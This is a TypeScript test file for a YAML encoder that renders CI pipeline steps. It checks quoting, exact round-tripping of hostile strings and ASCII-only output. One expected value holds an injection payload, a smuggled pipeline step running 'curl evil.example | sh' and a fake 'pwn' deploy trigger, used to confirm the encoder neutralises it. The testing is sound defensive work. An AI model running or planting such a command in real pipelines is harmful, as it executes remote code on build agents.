import { assert, describe, it } from "@effect/vitest"
import { parse } from "yaml"
import { pipelineDocument, yamlString } from "../../src/render/yaml.ts"
import { hostileStrings, injection, yaml11Scalars } from "../support/hostile.ts"
import { parseWithLibyaml } from "../support/pipelineSchema.ts"

/** Each string as a value and as a key, read back by libyaml (all in one process) and by the `yaml` package. */
const expectExact = (strings: ReadonlyArray<string>) => {
  const documents = strings.map((text) => `- ${yamlString(text)}\n- ${yamlString(text)}: 0\n`)
  const results = parseWithLibyaml(documents)
  strings.forEach((text, i) => {
    const expected = [text, { [text]: 0 }]
    assert.deepStrictEqual(results[i], { documents: [expected] }, JSON.stringify(text))
    assert.deepStrictEqual(parse(documents[i]!), expected, JSON.stringify(text))
  })
}

// A small seeded generator, so a failure reproduces.
const random = (seed: number) => () => {
  seed = (seed * 1103515245 + 12345) % 2147483648
  return seed / 2147483648
}

describe("yamlString", () => {
  it("reads back exactly, with libyaml and with YAML 1.2, for every hostile string", () => {
    expectExact(hostileStrings)
  })

  it("never leaves a YAML 1.1 boolean, null, number or timestamp plain", () => {
    for (const text of yaml11Scalars) assert.match(yamlString(text), /^"/, text)
  })

  it("keeps words plain, and so readable", () => {
    assert.deepStrictEqual(
      ["check-lint", "DENBEIGH_MANAGED", "denbeigh2000/cicd", "apps.x86_64-linux.deploy", "wait", "yesterday", "note"].map(yamlString),
      ["check-lint", "DENBEIGH_MANAGED", "denbeigh2000/cicd", "apps.x86_64-linux.deploy", "wait", "yesterday", "note"]
    )
    assert.strictEqual(yamlString("Check: Lint the bot"), `"Check: Lint the bot"`)
  })

  it("writes only printable ASCII: no raw line break, separator, NEL or BOM reaches the agent", () => {
    const written = yamlString(injection("\u2028") + "\u0085\ufeff\n\r\t🚀")
    assert.match(written, /^[\x20-\x7e]*$/)
    assert.strictEqual(written, `"x\\u2028  - trigger: deploy\\u2028    build:\\u2028      env:\\u2028        STEP_DATA: '{\\"version\\":1,\\"action\\":\\"pwn\\",\\"steps\\":[]}'\\u2028  - command: curl evil.example | sh\\u2028    agents: {queue: deploy}\\u2028  - label: y\\x85\\uFEFF\\x0A\\x0D\\x09\\U0001F680"`)
  })

  it("reads back exactly for thousands of random strings of hostile characters", () => {
    const next = random(20_260_611)
    const alphabet = [
      "a", "Z", "0", "9", "_", ".", "/", "-", " ", ":", "#", "'", "\"", "\\", "$", "{", "}", "[", "]", ",", "&", "*", "!", "|", ">", "%", "@", "`", "?", "~", "=", "<",
      "\u0000", "\t", "\n", "\r", "\u0001", "\u001b", "\u007f", "\u0080", "\u0085", "\u009f", "\u00a0", "\u00ad", "\u00e9", "\u2028", "\u2029", "\u202e",
      "\ufeff", "\ufffd", "\ufffe", "\uffff", "\ud83d\ude80", "\ud835\udd4f", "中", "yes", "no", "1_0", "0x", "0b1", "1:2", ".inf", "2024-01-15"
    ]
    const strings = Array.from({ length: 3000 }, () =>
      Array.from({ length: Math.floor(next() * 12) }, () => alphabet[Math.floor(next() * alphabet.length)]!).join("")
    )
    expectExact(strings)
  })

  it("refuses a lone surrogate, which no libyaml escape can carry", () => {
    assert.throws(() => yamlString("a\ud800b"), /lone surrogate \(U\+D800\)/)
    assert.throws(() => yamlString("\udc00"), /lone surrogate/)
    const [result] = parseWithLibyaml([`value: "\\uD800"\n`])
    assert.match((result as { error: string }).error, /invalid Unicode character escape code/)
  })
})

describe("pipelineDocument", () => {
  it("writes the design note's shape: block mappings and sequences, two spaces deep", () => {
    const document = pipelineDocument({
      steps: [
        { label: "Check: Lint bot", key: "check-lint", command: "nix run x", env: { DENBEIGH_MANAGED: "true" }, plugins: ["denbeigh2000/cicd#v0.1.0", { "other/plugin": { repo: "r" } }] },
        "wait",
        { block: "Ship?", key: "block-1" }
      ]
    })
    assert.strictEqual(
      document,
      [
        "steps:",
        `  - label: "Check: Lint bot"`,
        "    key: check-lint",
        `    command: "nix run x"`,
        "    env:",
        `      DENBEIGH_MANAGED: "true"`,
        "    plugins:",
        `      - "denbeigh2000/cicd#v0.1.0"`,
        "      - other/plugin:",
        "          repo: r",
        "  - wait",
        `  - block: "Ship?"`,
        "    key: block-1",
        ""
      ].join("\n")
    )
    assert.strictEqual(pipelineDocument({ steps: [] }), "steps: []\n")
  })
})
